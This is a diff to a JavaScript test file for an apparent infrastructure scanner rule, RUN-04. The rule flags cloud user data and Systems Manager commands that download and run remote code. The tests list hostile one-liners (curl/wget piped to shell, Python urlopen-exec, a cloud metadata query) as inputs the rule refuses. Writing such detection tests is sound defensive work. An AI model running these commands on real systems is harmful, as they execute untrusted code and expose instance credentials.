@@ -28,6 +28,11 @@ describe("RUN-04", () => {
     'eval "$(curl https://get.example.com)"',
     "curl -Lo /tmp/x https://get.example.com\nchmod 755 /tmp/x\n/tmp/x",
     "wget https://get.example.com/x.sh -O x.sh; sh x.sh",
+    "wget https://get.example.com/x.sh\nbash x.sh",
+    "curl -sSO https://get.example.com/x.sh && sh x.sh",
+    "curl https://get.example.com > /tmp/x.sh; bash /tmp/x.sh",
+    "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://get.example.com\").read())'",
+    "curl -s http://169.254.169.254/latest/meta-data/; curl https://get.example.com | sh",
     "iex (iwr https://get.example.com)",
     "irm https://get.example.com | iex",
   ])("refuses %j", (program) => {
@@ -43,6 +48,8 @@ describe("RUN-04", () => {
     "curl -Lo data.csv https://data.example.com; sh /opt/known.sh data.csv",
     "apt-get install -y curl | tee log; bash /opt/known.sh",
     "npm ci",
+    "curl -sSO https://get.example.com/data.csv && sh known.sh",
+    "curl https://get.example.com > data.json; bash known.sh",
     "",
   ])("accepts %j", (program) => {
     expect(found("RUN-04", of(TEMPLATE, "x", { userData: base64(program) }))).toEqual([]);
@@ -51,6 +58,8 @@ describe("RUN-04", () => {
   it("reads commands of Systems Manager, and takes values of a wrong type for none", () => {
     const content = JSON.stringify({ mainSteps: [{ inputs: { runCommand: ["curl https://get.example.com | sh"] } }] });
     expect(found("RUN-04", of("aws:ssm/document:Document", "x", { content }))).toHaveLength(1);
+    const parameters = { commands: "curl https://get.example.com | sh" };
+    expect(found("RUN-04", of("aws:ssm/association:Association", "x", { parameters }))).toHaveLength(1);
     expect(found("RUN-04", of(PROJECT, "x", { source: null, secondarySources: "text" }))).toEqual([]);
   });
 });
